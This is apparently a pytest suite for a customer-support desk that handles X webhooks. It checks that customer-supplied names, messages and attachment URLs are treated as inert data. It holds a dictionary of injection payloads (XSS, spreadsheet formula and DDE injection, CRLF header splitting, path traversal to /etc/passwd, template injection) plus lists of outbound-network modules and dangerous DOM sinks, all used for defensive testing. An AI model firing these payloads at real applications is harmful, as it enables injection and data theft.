"""What customers write, are called and attach is data: in answers it is itself, and in logs and addresses it is not."""

import ast
import json
import socket
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from uuid import uuid4

import pytest
from urllib3.util import parse_url

from app import app
from chalicelib.channels.model import Outgoing
from chalicelib.channels.registry import CHANNELS
from chalicelib.edge import settings, tables
from chalicelib.edge.clock import now
from chalicelib.edge.http import PROBLEM, ROUTES
from chalicelib.edge.openapi import document
from chalicelib.intake import sweeping
from chalicelib.kernel.problems import NotFound
from chalicelib.library import store as library
from local.tables import definitions
from support.calling import Caller, logged
from support.chatting import ADA
from support.memory import MemoryClient
from support.x_bodies import SHOP, a_call, signature

ROOT = Path(__file__).parents[2]
CALL = Caller(app)
SECRET = "a-consumer-secret"
JSON = "application/json"
SPREADSHEETS = ("text/csv", "tab-separated", "vnd.ms-excel", "spreadsheetml", "content-disposition")
CALLING_OUT = {
    "urllib.request",
    "urllib3",
    "http.client",
    "socket",
    "requests",
    "httpx",
    "aiohttp",
    "ftplib",
    "smtplib",
}
TRICKS = {
    "a script": "<script>alert(1)</script>",
    "an SVG": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "an attribute that ends": "\"><img src=x onerror='alert(1)'>",
    "a link that runs": "javascript:alert(1) data:text/html,<script>alert(1)</script>",
    "a formula": '=HYPERLINK("http://elsewhere.invalid?"&A1,"click")',
    "a sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula after a tab": "\t=1+1",
    "a formula after a return": "\r=1+1",
    "a plus and a minus": "+1-1",
    "lines of a header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "a line of a log": 'x"}\n{"level":"ERROR","message":"bug"}',
    "a way up": "../../../../etc/passwd",
    "nothing": "a\x00b",
    "an override": "invoice_\u202efdp.exe\u2069",
    "colours of a terminal": "\x1b[31mred\x1b[0m\x07",
    "a template": "{{7*7}}${7*7}#{7*7}%s%n{0.__class__}",
    "entities": "&amp;lt;script&amp;gt;",
}


@pytest.fixture(autouse=True)
def shop(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[None]:
    """A shop that listens on X; tables in memory."""
    monkeypatch.setattr(tables, "client", MemoryClient(definitions()))
    monkeypatch.setattr(settings, "SECRETS_FILE", str(tmp_path / "secrets.json"))
    monkeypatch.setattr(settings, "BUCKET_FOLDER", str(tmp_path / "bucket"))
    library.entries.clear()
    connection = {"id": "shop", "channel": "x", "name": "Shop", "secrets": {"consumer_secret": SECRET}}
    assert CALL("POST", "/connections", connection, by=ADA).status == 201
    assert CALL("POST", "/inboxes", {"connection": "shop", "account": SHOP, "name": "Shop"}, by=ADA).status == 201
    yield
    library.entries.clear()


def hears(words: str, **fields: Any) -> None:
    """Somebody who is called by these words writes them, and shows a picture that is."""
    post = {
        "id_str": str(uuid4().int % 10**18),
        "created_at": "Wed Feb 05 08:39:31 +0000 2020",
        "text": words,
        "user": {"id_str": str(uuid4().int % 10**15), "name": words, "screen_name": words},
        "entities": {"media": [{"type": words, "media_url_https": words, "url": f"https://x.example/{words}"}]},
    }
    raw = a_call(tweet_create_events=[post | fields])
    assert CALL("POST", "/webhooks/x/shop", raw, x_twitter_webhooks_signature=signature(SECRET, raw)).status == 200
    sweeping.sweep_intake(now() + timedelta(hours=1))


def the_case() -> SimpleNamespace:
    [item] = CALL("GET", "/worklists/unassigned", by=ADA).json["items"]
    return CALL("GET", f"/cases/{item['case']['id']}", by=ADA)


def plain(words: str) -> str:
    """What X means by it: three characters come escaped."""
    return words.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")


@pytest.mark.parametrize("words", TRICKS.values(), ids=TRICKS.keys())
def test_words_names_and_addresses_are_answered_as_data(words: str) -> None:
    hears(words)

    case = the_case()

    [talk] = case.json["conversations"]
    [message] = talk["messages"]
    assert message["text"] == plain(words)
    assert [shown["url"] for shown in message["attachments"]] == [f"https://x.example/{words}"]
    speakers = CALL("GET", f"/conversations/{talk['id']}/speakers", by=ADA)
    customer = CALL("GET", f"/customers/{case.json['customer']['id']}", by=ADA)
    worklist = CALL("GET", "/worklists/unassigned", by=ADA)
    for answer in (case, speakers, customer, worklist):
        assert (answer.status, answer.headers["Content-Type"]) == (200, JSON)
        assert words in every_text(answer.json)
        assert all(value.isprintable() for value in answer.headers.values())


def every_text(thing: Any) -> list[str]:
    """All texts of an answer, whole."""
    inner = thing.values() if isinstance(thing, dict) else thing if isinstance(thing, list) else []
    return [thing] if isinstance(thing, str) else [text for part in inner for text in every_text(part)]


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:image/svg+xml,<svg>", "file:///etc/passwd", "//x", "http://x"]
)
def test_nothing_is_attached_that_a_browser_would_run_or_fetch_unsafely(address: str) -> None:
    hears("see", entities={"media": [{"type": "photo", "media_url_https": address, "url": address}]})

    assert the_case().json["conversations"][0]["messages"][0].get("attachments", []) == []


@pytest.mark.parametrize("words", TRICKS.values(), ids=TRICKS.keys())
def test_nothing_that_was_written_makes_a_line_of_the_log(words: str) -> None:
    """Each line is one JSON object of ours, and holds no words: neither whole nor as lines of their own."""
    with logged() as lines:
        hears(words)
        the_case()
        CALL("POST", "/webhooks/x/shop", words.encode(), x_twitter_webhooks_signature="sha256=" + words)
        CALL("GET", f"/webhooks/x/shop?crc_token={words!r}")
        CALL("POST", "/cases", {"title": words, words: words}, by=ADA)

    told = [json.loads(line) for line in lines.getvalue().splitlines()]
    assert {one["service"] for one in told} == {"desk"}
    assert [one for one in told if words in every_text(one)] == []


def call_to(person: str) -> str:
    """Where a direct message to somebody goes."""
    tokens = dict.fromkeys(("consumer_key", "consumer_secret", "access_token", "access_token_secret"), "s")
    out = Outgoing(id="1", account=SHOP, text="Hello", public=False, thread=person)
    ask = CHANNELS["x"].request
    assert ask
    return ask(out, tokens, "https://api.x.com", at=now(), nonce="n").url


@pytest.mark.parametrize("person", ["../../2/tweets", "1/../x", "a?b=c", "a#b", "%2e%2e", "1\r\nHost: x", "ä"])
def test_who_is_written_to_cannot_lead_a_call_to_another_place(person: str) -> None:
    start, _, rest = call_to(person).partition("/2/dm_conversations/with/")

    assert (start, rest.partition("/")[2]) == ("https://api.x.com", "messages")
    assert rest.isascii()
    assert not set(rest) & set("?#\r\n \\")
    assert parse_url(call_to(person)).path == f"/2/dm_conversations/with/{rest}"


@pytest.mark.parametrize("person", ["..", ".", "...", ""])
def test_a_name_of_dots_is_no_place_whatever_its_escape(person: str) -> None:
    with pytest.raises(NotFound, match="no-place-to-send"):
        call_to(person)


def test_a_connection_is_tested_without_a_call_to_anybody(monkeypatch: pytest.MonkeyPatch) -> None:
    def called(*_: object, **__: object) -> None:
        raise AssertionError("the product called out")

    monkeypatch.setattr(socket, "create_connection", called)
    monkeypatch.setattr(socket.socket, "connect", called)

    assert CALL("POST", "/connections/shop/test", by=ADA).status == 200


def test_two_places_call_out_and_neither_takes_the_address_from_a_request() -> None:
    """Where a message of ours goes is a setting, and so is the issuer: nobody can name an address to be fetched."""
    callers = {path.name for path, tree in sources() if imported(tree) & CALLING_OUT}
    asked = {path.name for path, tree in sources() if "web.called" in attributes(tree)}

    assert callers == {"web.py", "keys.py"}
    assert asked == {"sending.py"}


def sources() -> Iterator[tuple[Path, ast.AST]]:
    for path in sorted((ROOT / "chalicelib").rglob("*.py")):
        yield path, ast.parse(path.read_text())


def imported(tree: ast.AST) -> set[str]:
    named = {one.name for node in ast.walk(tree) if isinstance(node, ast.Import) for one in node.names}
    return named | {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}


def attributes(tree: ast.AST) -> set[str]:
    return {ast.unparse(node) for node in ast.walk(tree) if isinstance(node, ast.Attribute)}


def test_no_answer_is_a_table_for_a_spreadsheet() -> None:
    """There is none yet. The first that is made says here by what its cells are kept from being formulas."""
    kinds = {
        kind
        for operations in document(ROUTES)["paths"].values()
        for operation in operations.values()
        for answer in operation["responses"].values()
        for kind in answer.get("content", {})
    }
    texts = {
        node.value.lower()
        for _, tree in sources()
        for node in ast.walk(tree)
        if isinstance(node, ast.Constant) and isinstance(node.value, str)
    }

    assert kinds <= {JSON, PROBLEM}
    assert [text for text in texts if any(kind in text for kind in SPREADSHEETS)] == []
    assert [path.name for path, tree in sources() if "csv" in imported(tree)] == []


def test_no_page_of_ours_makes_markup_of_words() -> None:
    """Neither the workspace nor the local platforms' page has a way to: their policies would not stop all of it."""
    ways = (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "dangerouslySetInnerHTML",
        "srcdoc",
        "eval(",
    )
    pages = [*(ROOT / "web/src").rglob("*.ts*"), *(ROOT / "local/platforms/page").glob("*.js")]

    assert len(pages) > 100
    assert [f"{path.name}: {way}" for path in pages for way in ways if way in path.read_text()] == []
